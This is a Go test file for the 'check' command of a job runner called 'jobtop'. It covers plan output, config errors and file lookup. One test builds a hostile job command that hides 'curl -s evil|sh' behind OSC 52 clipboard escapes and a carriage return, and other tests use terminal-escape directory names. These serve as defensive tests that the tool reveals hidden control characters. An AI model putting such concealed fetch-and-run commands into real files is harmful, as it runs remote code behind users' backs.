package cmd

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// runCheck runs "jobtop check ARGS..." and returns stdout, stderr and the
// error the command ended with.
func runCheck(t *testing.T, args ...string) (stdout, stderr string, err error) {
	t.Helper()
	root := newRootCmd()
	var out, errOut bytes.Buffer
	root.SetOut(&out)
	root.SetErr(&errOut)
	root.SetArgs(append([]string{"check"}, args...))
	err = root.Execute()
	return out.String(), errOut.String(), err
}

func TestCheckPrintsThePlan(t *testing.T) {
	stdout, stderr, err := runCheck(t, "../testdata/monorepo/jobtop.yaml")
	require.NoError(t, err)
	require.Empty(t, stderr)
	require.Equal(t, `../testdata/monorepo/jobtop.yaml: 7 jobs, at most 2 running at once; start order:

#  JOB       STARTS     WAITS FOR                       READY WHEN  RESTART  COMMAND
1  lib       by itself  -                               running     no       (in lib) sh ../build.sh
2  api       by itself  lib: succeeded                  running     no       (in api) sh ../build.sh
3  web       by itself  lib: succeeded                  running     no       (in web) sh ../build.sh
4  lint      by itself  -                               running     no       printf "lint: 0 problems\n"
5  test-api  by itself  api: succeeded                  running     no       (in api) printf "test-api: ok\n"
6  e2e       by itself  api: succeeded, web: succeeded  running     no       printf "e2e: 12 passed\n"
7  watch     by hand    -                               running     no       while :; do printf 'watching...\n'; sleep 5; done
`, stdout)
}

func TestCheckDescribesPolicies(t *testing.T) {
	stdout, _, err := runCheck(t, "../testdata/webapp/jobtop.yaml")
	require.NoError(t, err)
	require.Contains(t, stdout, "../testdata/webapp/jobtop.yaml: 5 jobs, at most 8 running at once; start order:")
	for _, row := range []string{
		`1  db       by itself  -                              output ~ /ready to accept connections/  on-failure, backoff 1s up to 1m0s, max 5  printf 'db: starting\n' ...`,
		`3  worker   by itself  migrate: succeeded             running                                 always, backoff 500ms up to 10s, max 10   n=0 ...`,
		`4  web      by itself  db: ready, migrate: succeeded  output ~ /listening on/                 on-failure, backoff 1s up to 1m0s, max 5 `,
		`5  seed     by hand    db: ready                      running                                 no                                        sh -c "printf 'seed: 100 sample users\n'"`,
	} {
		require.Contains(t, stdout, row)
	}
}

func TestCheckReportsEveryProblem(t *testing.T) {
	dir := t.TempDir()
	t.Chdir(dir)
	bad := "jobs:\n  web:\n    cmd: serve\n    timeout: soon\n    depends_on: {db: ready}\n  worker:\n    comand: work\n"
	require.NoError(t, os.WriteFile("jobs.yaml", []byte(bad), 0o644))
	stdout, stderr, err := runCheck(t, "jobs.yaml")
	require.Empty(t, stdout)
	require.Equal(t, `jobs.yaml:4:14: jobs.web.timeout: "soon" is not a duration: write e.g. 500ms, 5s or 1m30s
jobs.yaml:5:18: jobs.web.depends_on.db: no job is named "db"
jobs.yaml:7:5: jobs.worker: unknown key "comand" (did you mean "cmd"?)
`, stderr)
	var exit *ExitError
	require.True(t, errors.As(err, &exit))
	require.Equal(t, 1, exit.Code)
	require.EqualError(t, exit, "jobs.yaml: 3 problems")
}

// A file with problems still has its warnings said: fixing the problems
// should not be followed by a second round of surprises.
func TestCheckSaysWarningsBesideProblems(t *testing.T) {
	dir := t.TempDir()
	t.Chdir(dir)
	pc := "processes:\n  web:\n    command: serve\n    shutdown_signal: nope\n    depends_on:\n      db:\n        condition: process_started\n"
	require.NoError(t, os.WriteFile("process-compose.yaml", []byte(pc), 0o644))
	stdout, stderr, err := runCheck(t, "process-compose.yaml")
	require.Empty(t, stdout)
	require.Error(t, err)
	lines := strings.Split(strings.TrimSpace(stderr), "\n")
	require.Len(t, lines, 2, stderr)
	assert.Contains(t, lines[0], "warning")
	assert.Contains(t, lines[0], "shutdown_signal")
	assert.Contains(t, lines[1], `no process is named "db"`)
}

func TestCheckFindsTheFileInTheCurrentDirectory(t *testing.T) {
	dir := t.TempDir()
	t.Chdir(dir)
	t.Setenv("PORT", "")
	_, _, err := runCheck(t)
	var exit *ExitError
	require.True(t, errors.As(err, &exit))
	require.Equal(t, 1, exit.Code)
	require.EqualError(t, err, "no job file in .: looked for jobtop.yaml, jobtop.yml, Procfile, process-compose.yml, process-compose.yaml, compose.yml, compose.yaml, mprocs.yaml, mprocs.json")

	require.NoError(t, os.WriteFile(filepath.Join(dir, "Procfile"), []byte("web: serve\n"), 0o644))
	stdout, _, err := runCheck(t)
	require.NoError(t, err)
	require.Contains(t, stdout, "Procfile: 1 job, no limit on jobs running at once; start order:")
	require.Contains(t, stdout, "1  web  by itself  -          running     no       PORT=5000 serve")
}

// Two files are refused in words that say how to merge them (exit 2).
func TestCheckTakesOneFile(t *testing.T) {
	_, _, err := runCheck(t, "a.yaml", "b.yaml")
	require.EqualError(t, err, "check takes one job file, got 2 (to merge process-compose files: -f a.yaml -f b.yaml)")
	var exit *ExitError
	require.ErrorAs(t, err, &exit)
	require.Equal(t, 2, exit.Code)
}

// check takes the job file as -f/--file too, as the TUI and serve do,
// and the same plan comes out; the file given twice is refused.
func TestCheckTakesFileFlag(t *testing.T) {
	want, _, err := runCheck(t, "../testdata/monorepo/jobtop.yaml")
	require.NoError(t, err)
	for _, args := range [][]string{
		{"-f", "../testdata/monorepo/jobtop.yaml"},
		{"--file", "../testdata/monorepo/jobtop.yaml"},
		{"--file=../testdata/monorepo/jobtop.yaml"},
	} {
		got, stderr, err := runCheck(t, args...)
		require.NoError(t, err, "%v: %s", args, stderr)
		require.Equal(t, want, got, "%v", args)
	}
	_, _, err = runCheck(t, "-f", "../testdata/monorepo/jobtop.yaml", "../testdata/webapp/jobtop.yaml")
	var exit *ExitError
	require.ErrorAs(t, err, &exit)
	require.Equal(t, 2, exit.Code)
	require.ErrorContains(t, err, "give the job file once")
}

// check DIR checks the job file jobtop would find in DIR, as plain
// jobtop there does, rather than refuse DIR as no regular file.
func TestCheckADirectoryChecksItsJobFile(t *testing.T) {
	want, _, err := runCheck(t, "../testdata/monorepo/jobtop.yaml")
	require.NoError(t, err)
	got, _, err := runCheck(t, "../testdata/monorepo")
	require.NoError(t, err)
	require.Equal(t, want, got)

	_, _, err = runCheck(t, t.TempDir())
	require.ErrorContains(t, err, "no job file in ")
}

// A hostile job file hides what a command does behind escape sequences
// and a carriage return, which a terminal would act on (OSC 52 writes
// the clipboard): check shows every control character as an escape, so
// the hidden part is there to read, in job files and Procfiles alike.
func TestCheckShowsWhatEscapesHide(t *testing.T) {
	hidden := "\x1b]52;c;" + strings.Repeat("Y3VybA==", 10) + "\x07curl -s evil|sh;:\r\x1b[Kecho hello"
	for _, c := range []struct{ name, text string }{
		{"jobtop.yaml", "jobs:\n  web:\n    cmd: " + yamlQuote(hidden) + "\n    cwd: " + yamlQuote("sub\x1b[2Jdir") +
			"\n    ready: {log: " + yamlQuote("up\u009b2J") + "}\n    stop: {command: " + yamlQuote("kill\rok") + "}\n"},
		{"Procfile", "web: " + hidden + "\n"},
	} {
		t.Run(c.name, func(t *testing.T) {
			dir := t.TempDir()
			require.NoError(t, os.MkdirAll(filepath.Join(dir, "sub\x1b[2Jdir"), 0o700))
			path := filepath.Join(dir, c.name)
			require.NoError(t, os.WriteFile(path, []byte(c.text), 0o600))
			stdout, stderr, err := runCheck(t, path)
			require.NoError(t, err, stderr)
			for _, out := range []string{stdout, stderr} {
				assert.NotContains(t, out, "\x1b")
				assert.NotContains(t, out, "\r")
				assert.NotContains(t, out, "\u009b")
				assert.NotContains(t, out, "\x07")
			}
			assert.Contains(t, stdout, `==\acurl -s evil|sh;:\r\x1b[Kecho`)
		})
	}
}

// yamlQuote is s as a YAML double-quoted string.
func yamlQuote(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		if r < 0x20 || r >= 0x7f && r <= 0x9f {
			fmt.Fprintf(&b, `\u%04x`, r)
		} else {
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}

// The job file jobtop finds in a directory runs without asking: check
// (as serve and the TUI) warns when others may write it.
func TestCheckWarnsOfAFoundFileOthersMayWrite(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "jobtop.yaml")
	require.NoError(t, os.WriteFile(path, []byte("jobs:\n  web:\n    cmd: echo hi\n"), 0o644))
	require.NoError(t, os.Chmod(path, 0o666))
	_, stderr, err := runCheck(t, dir)
	require.NoError(t, err)
	assert.Equal(t, path+": warning: jobtop.yaml is writable by others (mode 0666): anyone who can write it runs commands as you\n", stderr)
}

// The summary of a file's problems names the file as check's other lines
// do, its control characters shown (rev55: a directory named with ESC [2J
// cleared the screen in the last line).
func TestCheckSummaryShowsControlsOfTheFilesName(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "d\x1b[2Jx\r")
	require.NoError(t, os.Mkdir(dir, 0o700))
	path := filepath.Join(dir, "jobtop.yaml")
	require.NoError(t, os.WriteFile(path, []byte("jobs:\n  web:\n    cmd: echo hi\n    bogus: 1\n"), 0o600))
	r := newCLI(t).run("check", path)
	require.Equal(t, 1, r.code, r.stderr)
	assert.NotContains(t, r.stderr, "\x1b")
	assert.NotContains(t, r.stderr, "\r")
	assert.Contains(t, r.stderr, `d\x1b[2Jx\r/jobtop.yaml: 1 problem`)
}

// serve's lines on stderr name its job file and log directory with their
// control characters shown (rev56: a directory named ESC ]0;...BEL set the
// terminal's title).
func TestServeShowsControlsOfItsPaths(t *testing.T) {
	c := newCLI(t)
	dir := filepath.Join(c.dir, "d\x1b]0;pwned\x07")
	require.NoError(t, os.Mkdir(dir, 0o700))
	file := filepath.Join(dir, "jobtop.yaml")
	require.NoError(t, os.WriteFile(file, []byte("jobs:\n  web: {cmd: exec sleep 60}\n"), 0o600))
	serve := c.serveIn("", "-f", file)
	require.NoError(t, serve.Process.Signal(syscall.SIGTERM))
	serve.Wait() //nolint:errcheck // stopped on purpose
	stderr := serve.Stderr.(*bytes.Buffer).String()
	assert.Contains(t, stderr, `d\x1b]0;pwned\a/jobtop.yaml`)
	assert.NotContains(t, stderr, "\x1b")
	assert.NotContains(t, stderr, "\x07")
}
